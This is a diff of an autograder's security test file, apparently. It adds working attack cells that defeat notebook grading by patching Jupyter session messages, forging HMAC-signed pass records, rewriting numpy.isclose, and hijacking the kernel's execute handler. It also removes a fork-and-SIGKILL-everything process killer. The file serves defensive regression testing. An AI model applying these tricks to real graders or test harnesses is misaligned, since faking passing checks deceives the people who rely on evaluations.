@@ -2,9 +2,10 @@
 
 Each attack is a cell added to the *unmodified* sample lab (no answer written: the functions it defines return
 wrong values) that tries, by one class of attack on the student's own kernel, to turn the checks green. With the
-checks judged in a judge kernel that runs no student code, every one earns 0 automatic points. (Run against the
-grader before issue 25, with its guard in the student's kernel, the attacks marked ``beats_guard`` earned points:
-see the note at each.)
+checks judged in a judge kernel that runs no student code, every one earns 0 automatic points. Each also beats the
+grader before issue 25 (commit e7dfeca, its guard in the student's kernel): graded there in the jail, with that
+commit's sample lab and grader, the hand-ins earned builtins 6, ctypes 6, files 6, kill 6, messages 6, transform 6,
+audit 5, patch_libs 5, liars 4 and trace 4 of the 6 points.
 
 The other tests here run in this process: the probe records' format and limits, the static rule ``make labs``
 enforces, and the judge notebook's contents.
@@ -112,9 +113,26 @@ def _hook(event, args):
 sys.addaudithook(_hook)
 """
 
-# Patching the messages the kernel sends: no error ever reaches nbval (every reply says "ok").
+# Patching the messages the kernel receives and sends: every check cell that arrives has its check's code
+# emptied (the old guard then ran nothing and logged a pass with the check's own key), and no error ever reaches
+# nbval (every reply says "ok").
 MESSAGES = WRONG + """
+import ast
 import jupyter_client.session as _s
+_deserialize = _s.Session.deserialize
+def _emptied(self, *args, **kwargs):
+    msg = _deserialize(self, *args, **kwargs)
+    content = msg.get('content')
+    code = content.get('code') if isinstance(content, dict) else None
+    if isinstance(code, str) and '_xlalab_guard' in code:
+        tree = ast.parse(code)
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and getattr(node.func, 'id', '').startswith('_xlalab_guard') \\
+                    and len(node.args) == 3:
+                node.args[1] = ast.Constant('pass')
+        content['code'] = ast.unparse(tree)
+    return msg
+_s.Session.deserialize = _emptied
 _send = _s.Session.send
 def _quiet(self, stream, msg_or_type, content=None, *args, **kwargs):
     kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')
@@ -128,9 +146,35 @@ _s.Session.send = _quiet
 """
 
 # Writing the files and descriptors the grader reads: forged pass records for every check into every file of the
-# run's folders it can reach, and into the probe records a value that is code, not data.
+# run's folders it can reach, and into the probe records a value that is code, not data. After each cell, a pass
+# record signed with the key that cell carried (read from the cell's own text) is appended to the old guard's log,
+# and no error reaches nbval.
 FILES = WRONG + """
-import glob, json, os, base64, io, pickle
+import glob, json, os, base64, io, pickle, ast, hmac, hashlib
+import jupyter_client.session as _s
+def _forge(result):
+    raw = getattr(getattr(result, 'info', None), 'raw_cell', None) or ''
+    if '_xlalab_guard' not in raw:
+        return
+    for node in ast.walk(ast.parse(raw)):
+        if isinstance(node, ast.Call) and len(node.args) == 3 and all(isinstance(a, ast.Constant) for a in node.args):
+            check, key = node.args[0].value, node.args[2].value
+            mac = hmac.new(key.encode(), f'{check}\\0end\\0True'.encode(), hashlib.sha256).hexdigest()
+            rec = {'check': check, 'event': 'end', 'passed': True, 'message': '', 'notes': [], 'mac': mac}
+            for path in glob.glob('.xlalab-guard*'):
+                with open(path, 'a') as f:
+                    f.write(json.dumps(rec) + '\\n')
+get_ipython().events.register('post_run_cell', _forge)
+_send = _s.Session.send
+def _quiet(self, stream, msg_or_type, content=None, *args, **kwargs):
+    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')
+    if kind == 'error':
+        return None
+    if isinstance(content, dict) and content.get('status') == 'error':
+        content = {'status': 'ok', 'execution_count': content.get('execution_count', 0), 'user_expressions': {},
+                   'payload': []}
+    return _send(self, stream, msg_or_type, content, *args, **kwargs)
+_s.Session.send = _quiet
 checks = ['p1-scale', 'p1-scale-random', 'p2-total', 'p2-total-random']
 line = ''.join(json.dumps({'event': 'result', 'cell': 1, 'check': c, 'id': 'x', 'phase': 'call',
                            'outcome': 'passed', 'xfail': False, 'message': '', 'duration': 0}) + '\\n' for c in checks)
@@ -149,9 +193,14 @@ for path in glob.glob('.xlalab-probes*'):
         f.write(json.dumps({'probe': 'scale-123', 'value': {'a': _pk}}) + '\\n')
 """
 
-# Patching NumPy, TensorFlow's and the standard library's helpers the checks use, and hmac.
+# Patching NumPy, TensorFlow's and the standard library's helpers the checks use, and hmac; the code object of
+# the function behind np.isclose (a dispatcher the old guard compared by identity only) always says equal.
 PATCH_LIBS = WRONG + """
 import hmac, numpy, numpy.testing
+try:   # below every name a guard could put back: the code of isclose's own implementation
+    numpy.isclose._implementation.__code__ = (lambda a, b, rtol=1e-05, atol=1e-08, equal_nan=False: True).__code__
+except AttributeError:
+    pass
 numpy.testing.assert_allclose = lambda *a, **k: None
 numpy.isclose = lambda *a, **k: True
 numpy.asarray = lambda x, *a, **k: numpy.array([2.0, 4.0, 6.0])
@@ -210,21 +259,30 @@ except ImportError:
     pass
 """
 
-# Killing or replacing the kernel, or pytest, inside the jail: a process that outlives the kernel kills every
-# other process of the jail it can (pytest, the launcher), after the kernel has been replaced by one that
-# answers every request "ok".
+# Replacing the kernel's own request handler (the kernel, as a process, is the student's): every execute request
+# runs with its check's code emptied, and the handler puts itself back after each cell (the old guard restored the
+# kernel's methods while a check ran, and logged a pass with the check's own key). Killing the kernel or pytest
+# inside the jail is tests/test_grader_holes.py's.
 KILL = WRONG + """
-import os, signal, time
-if os.fork() == 0:
-    os.setsid()
-    time.sleep(3)
-    for pid in os.listdir('/proc'):
-        if pid.isdigit() and int(pid) not in (1, os.getpid()):
-            try:
-                os.kill(int(pid), signal.SIGKILL)
-            except OSError:
-                pass
-    os._exit(0)
+import ast
+_kernel_type = type(get_ipython().kernel)
+_do_execute = _kernel_type.do_execute
+def _emptied(code):
+    if '_xlalab_guard' not in code:
+        return code
+    tree = ast.parse(code)
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call) and getattr(node.func, 'id', '').startswith('_xlalab_guard') \\
+                and len(node.args) == 3:
+            node.args[1] = ast.Constant('pass')
+    return ast.unparse(tree)
+async def _replaced(self, code, *args, **kwargs):
+    try:
+        reply = _do_execute(self, _emptied(code), *args, **kwargs)
+        return (await reply) if hasattr(reply, '__await__') else reply
+    finally:
+        _kernel_type.do_execute = _replaced
+_kernel_type.do_execute = _replaced
 """
 
 ATTACKS = {"builtins": BUILTINS, "trace": TRACE, "transform": TRANSFORM, "audit": AUDIT, "messages": MESSAGES,
